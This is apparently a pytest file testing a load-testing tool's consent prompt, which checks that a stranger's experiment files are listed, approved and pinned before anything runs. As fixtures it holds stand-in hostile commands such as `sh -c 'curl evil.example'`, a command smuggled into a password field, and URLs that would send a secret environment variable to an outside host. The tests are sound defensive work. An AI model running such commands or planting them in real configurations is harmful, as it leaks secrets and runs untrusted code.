"""A stranger's experiment asks before it does anything, once for each content; what was looked at is what is run."""

import io
import os
import pty
import re
import select
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.calling import called
from tests.experiments import described

from loadstone.cli.ad_hoc_experiment import ad_hoc_source
from loadstone.cli.http_command import http_ad_hoc
from loadstone.cli.http_options import HttpWork
from loadstone.cli.load import Load
from loadstone.experiment.action import PlannedAction
from loadstone.machine.processes.cache_folder import cache_folder
from loadstone.programs.subjects.subject import local_subject
from loadstone.run.consent import FOLDER, SHOWN_CHARACTERS, SHOWN_LINES, listing, require_consent
from loadstone.run.prepare import prepare, requested_plan
from loadstone.run.request import RunRequest
from loadstone.run_folder.earlier_runs import files_sent
from loadstone.safety import terminal
from loadstone.safety.bounds import pinned_files
from loadstone.safety.errors import UserError
from loadstone.servers.server import DeployContext

LOADSTONE = Path(sys.executable).with_name("loadstone")
SUBJECT = """\
name: app
build: {commands: ["sh -c 'touch built'"], inputs: ["sources/*"], output: built}
run: {command: "sh program.sh {port}", ready_within_s: 2}
tables: {db: schema.sql}
"""
EXPERIMENT = """\
name: stranger
question: What does a stranger's file do?
factors:
  size: {levels: [10 B, 20 B]}
tables:
  - {name: t, title: T, vary: {size: [10 B, 20 B]}}
servers:
  redis: {kind: embedded}
subjects:
  app: {manifest: subject.yaml}
workload:
  target: app
  protocol: http1
  model: {kind: closed, users: 1}
  pool: {connections: 1}
  phases: {measure_s: 100 ms}
  documents: {payload_bytes: "${size}"}
  data: {path: rows.csv}
  operations:
    - {name: get, requests: [{path: "/{data.a}", expect: {status: 200}}]}
"""
FILES = {
    "x.yaml": EXPERIMENT,
    "subject.yaml": SUBJECT,
    "sources/one.txt": "one",
    "program.sh": "touch started\nexec sleep 60\n",
    "schema.sql": "CREATE TABLE t (id INT);\n",
    "rows.csv": "a\n1\n2\n",
}


@pytest.fixture
def theirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A stranger's experiment with all kinds of files, and a cache folder that knows nothing."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    folder = tmp_path / "theirs"
    for name, text in FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    monkeypatch.chdir(tmp_path)
    yield folder / "x.yaml"
    pinned_files.forget()


def options(file: Path, **more: object) -> RunRequest:
    return RunRequest(experiment=str(file), seed=1, out=file.parent / "runs", **more)  # type: ignore[arg-type]


@pytest.mark.fault(
    "a first run without a terminal", "status 2 before anything starts; `--trust` runs and remembers", area="foreign"
)
def test_without_a_terminal_it_is_refused_until_it_is_trusted(theirs: Path) -> None:
    with pytest.raises(
        UserError, match=r"x\.yaml: it was not run here before as it is, and a run starts sh program"
    ) as e:
        prepare(options(theirs))
    assert "loadstone show" in str(e.value)
    assert str(e.value).endswith("add --trust")
    assert not list(theirs.parent.glob("**/built"))
    prepare(options(theirs, trust=True))
    prepare(options(theirs))


@pytest.mark.fault(
    "a byte of its files changed, or an act was not in the list", "loadstone requests consent again", area="foreign"
)
@pytest.mark.parametrize("name", FILES)
def test_a_changed_byte_of_any_file_asks_again(theirs: Path, name: str) -> None:
    prepare(options(theirs, trust=True))
    file = theirs.parent / name
    before = file.read_text()
    file.write_text(f"{before}{'# another' if name.endswith(('yaml', 'sh')) else before}\n")
    with pytest.raises(UserError, match="add --trust"):
        prepare(options(theirs))
    file.write_text(before)
    prepare(options(theirs))


@pytest.mark.fault("a byte of its files changed, or an act was not in the list")
def test_another_act_of_the_same_content_asks_again(theirs: Path) -> None:
    """What was off by default when it was answered, for example."""
    text = theirs.read_text().replace("levels: [10 B, 20 B]}", "levels: [10 B, 20 B], off_by_default: [20 B]}", 1)
    text = text.replace(
        "  redis: {kind: embedded}\n",
        "  redis: {kind: embedded}\n  two: {kind: process, binary: /bin/ls, when: {size: 20 B}}\n",
    )
    theirs.write_text(text)
    prepare(options(theirs, trust=True, only=("size=10 B",)))
    with pytest.raises(UserError, match=r"starts /bin/ls \(binary of server two\)"):
        prepare(options(theirs, only=("size=20 B",)))


def test_what_is_kept_is_private(theirs: Path) -> None:
    prepare(options(theirs, trust=True))
    (kept,) = (cache_folder() / FOLDER).iterdir()
    assert (kept.stat().st_mode & 0o777, kept.parent.stat().st_mode & 0o777) == (0o600, 0o700)


@pytest.mark.fault("a file is exchanged after consent", "it is not used; the run ends", area="foreign")
def test_a_manifest_that_was_changed_after_the_answer_is_not_used(theirs: Path) -> None:
    prepare(options(theirs, trust=True))
    (theirs.parent / "subject.yaml").write_text(SUBJECT.replace("sh program.sh", "sh -c evil"))
    with pytest.raises(UserError, match=r"subject\.yaml: it was changed after this run looked at it"):
        local_subject(theirs.parent)


@pytest.mark.fault("a file is exchanged after consent")
@pytest.mark.parametrize("name", ["sources/one.txt", "program.sh"])
def test_code_that_was_changed_after_the_answer_is_not_run(theirs: Path, tmp_path: Path, name: str) -> None:
    prepare(options(theirs, trust=True))
    subject = local_subject(theirs.parent)
    (theirs.parent / name).write_text("touch changed")
    with pytest.raises(UserError, match="changed after this run looked at it"):
        subject.start(DeployContext(work_root=tmp_path, log_folder=tmp_path / "logs"))
    assert not list(tmp_path.glob("**/changed"))
    assert not list(tmp_path.glob("**/started"))


@pytest.mark.fault("`--resume` takes options from someone's folder", "they need consent", area="foreign")
def test_typed_words_of_a_resumed_folder_are_nobodys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CANARY", "c4naryValue99")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    url = "redis=redis://u:${env:CANARY}@192.0.2.1?cluster=yes"
    typed = RunRequest(experiment="json-documents", servers=(url,), seed=1, of_folder=True)
    with pytest.raises(UserError, match=r"sends the variable CANARY to server redis .*add --trust"):
        prepare(typed)


@pytest.mark.fault("a first run without a terminal")
def test_the_command_line_refuses_before_it_connects(theirs: Path) -> None:
    came = socket.create_server(("127.0.0.1", 0))
    came.settimeout(0.2)
    port = came.getsockname()[1]
    outside = f"  away: {{kind: url, url: 'redis://u:${{env:CANARY}}@outside.example:{port}'}}\n"
    here = f"  near: {{kind: url, url: 'redis://u:${{env:CANARY}}@127.0.0.1:{port}?cluster=yes'}}\n"
    theirs.write_text(EXPERIMENT.replace("subjects:\n", f"{here}{outside}subjects:\n"))
    done = called("run", theirs, "--quick", environment={"CANARY": "c4naryValue99"})
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert "add --trust" in done.stderr
    assert not done.stdout
    with pytest.raises(TimeoutError):
        came.accept()
    came.close()


@pytest.mark.fault("an experiment hides its command as a password", "the command is shown", area="foreign")
def test_a_file_cannot_hide_its_command_as_a_secret(theirs: Path) -> None:
    """The redactor learns passwords from the file: a password that is spelled like the command would hide it."""
    text = SUBJECT.replace('"sh program.sh {port}"', "\"sh -c 'curl evil.example'\"")
    (theirs.parent / "subject.yaml").write_text(
        f"{text}environment: {{PASSWORD: curl, OTHER_PASSWORD: evil.example, RUN_PASSWORD: 'touch x; sh'}}\n"
    )
    shown = called("show", theirs)
    said = shown.stdout
    assert shown.returncode == 0
    assert "  starts sh -c 'curl evil.example' (subject app" in said
    assert "PASSWORD=*** OTHER_PASSWORD=*** RUN_PASSWORD=touch x; sh (subject app)" in said
    asked, _ = on_a_terminal([str(LOADSTONE), "run", str(theirs)], "n")
    assert "  starts sh -c 'curl evil.example' (subject app" in asked


def test_what_is_kept_of_an_answer_holds_no_password(theirs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a shell could run is shown, whatever its variable is called; so a password with a `$` is."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(theirs.parent / "cache"))
    (theirs.parent / "subject.yaml").write_text(f"{SUBJECT}environment: {{DB_PASSWORD: 'Cnry7;Shell$9Z'}}\n")
    prepare(RunRequest(experiment=str(theirs), trust=True, seed=1))
    prepare(RunRequest(experiment=str(theirs), seed=1))  # it was answered
    (kept,) = (cache_folder() / FOLDER).iterdir()
    assert "Cnry7" not in kept.read_text()
    assert "program.sh" not in kept.read_text()


@pytest.mark.fault("a first run at a terminal", "the list is shown; only yes runs it", area="foreign")
@pytest.mark.parametrize(("answer", "yes"), [("n", False), ("", False), ("maybe", False), ("yes!", False),
                                            ("y", True), (" YES ", True)])  # fmt: skip
def test_only_yes_is_yes(monkeypatch: pytest.MonkeyPatch, answer: str, yes: bool) -> None:
    for end in ("\n", ""):
        monkeypatch.setattr(sys, "stdin", io.StringIO(answer + end))
        assert terminal.confirmed("Run it? [y/N] ") is yes


@pytest.mark.fault("a first run at a terminal")
@pytest.mark.parametrize(("answer", "status"), [("", 2), ("y", 2)])
def test_on_a_terminal_it_shows_the_list_and_asks(theirs: Path, answer: str, status: int) -> None:
    long = "true; " * 400
    many = "".join(f"  s{n}: {{kind: url, url: 'redis://outside{n}.example'}}\n" for n in range(40))
    theirs.write_text(EXPERIMENT.replace("subjects:\n", f"{many}subjects:\n"))
    (theirs.parent / "subject.yaml").write_text(SUBJECT.replace('"sh program.sh {port}"', f"\"sh -c '{long} evil'\""))
    said, found = on_a_terminal([str(LOADSTONE), "run", str(theirs), "--quick"], answer)
    assert "[y/N]" in said
    lines = said[: said.index("[y/N]")].splitlines()
    assert lines[1].startswith("  starts sh -c ")
    assert len(lines[1]) < SHOWN_CHARACTERS + 100
    assert "evil" in lines[1]
    assert re.search(r"\[\d+ characters are left out here\]", lines[1])
    assert sum(line.startswith("  connects to") for line in lines) == SHOWN_LINES + 1
    assert f"connects to {40 - SHOWN_LINES} more that are not named here" in lines[-2]
    assert "programs: 1" in lines[-1]
    assert "addresses: 40" in lines[-1]
    assert found == status
    assert ("not trusted; nothing was started" in said) == (answer != "y")


def on_a_terminal(command: list[str], answer: str) -> tuple[str, int]:
    """What a command says at a terminal of its own, and its status; the answer is typed at its question."""
    pid, screen = pty.fork()
    if pid == 0:
        os.execv(command[0], command)
    said, answered, deadline = b"", False, time.monotonic() + 60
    while time.monotonic() < deadline:
        if select.select([screen], [], [], 0.2)[0]:
            try:
                piece = os.read(screen, 65536)
            except OSError:
                break
            if not piece:
                break
            said += piece
        if b"[y/N]" in said and not answered:
            answered = True
            os.write(screen, f"{answer}\n".encode())
    _, status = os.waitpid(pid, 0)
    os.close(screen)
    return said.decode(errors="replace"), os.waitstatus_to_exitcode(status)


def test_the_numbers_of_what_asks_stand_at_the_end_of_a_long_list() -> None:
    """The first lines have left the screen by then."""
    dangerous = PlannedAction("starts", "/bin/evil", asks=True)
    harmless = [PlannedAction("starts its own", f"embedded as server s{number}") for number in range(60)]
    assert list(listing([dangerous, *harmless]))[-1].startswith("Of these a run asks about programs: 1;")
    assert not any("asks about" in line for line in listing([dangerous]))
    long = PlannedAction("starts", "/bin/sh -c " + "x" * SHOWN_CHARACTERS, asks=True)
    assert "asks about programs: 1;" in list(listing([long]))[-1]


@pytest.mark.fault("a folder's option sends your file (`--body @FILE`)", "the question lists it", area="foreign")
def test_a_file_that_an_option_of_a_folder_puts_into_the_load_is_listed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its text stands in the plan, which names the file no more; what was typed is remembered, and does not ask."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    (tmp_path / "body").write_text("text")
    words = ("http", "http://192.0.2.1:1/", "--body", f"@{tmp_path / 'body'}")
    work = HttpWork(method="POST", text=words[-1])
    built = described(ad_hoc_source(http_ad_hoc(words[1], work, Load())))
    given = RunRequest(seed=1, command=words, of_folder=True)
    plan = requested_plan(built, given)
    with pytest.raises(UserError, match=rf"sends the file {tmp_path / 'body'}, as text of the load.* and 2 more"):
        require_consent(built, plan, trust=False, of_folder=True, files_sent=files_sent(words))
    require_consent(built, plan, trust=False, files_sent=files_sent(words))
    require_consent(built, plan, trust=False, of_folder=True, files_sent=files_sent(words))
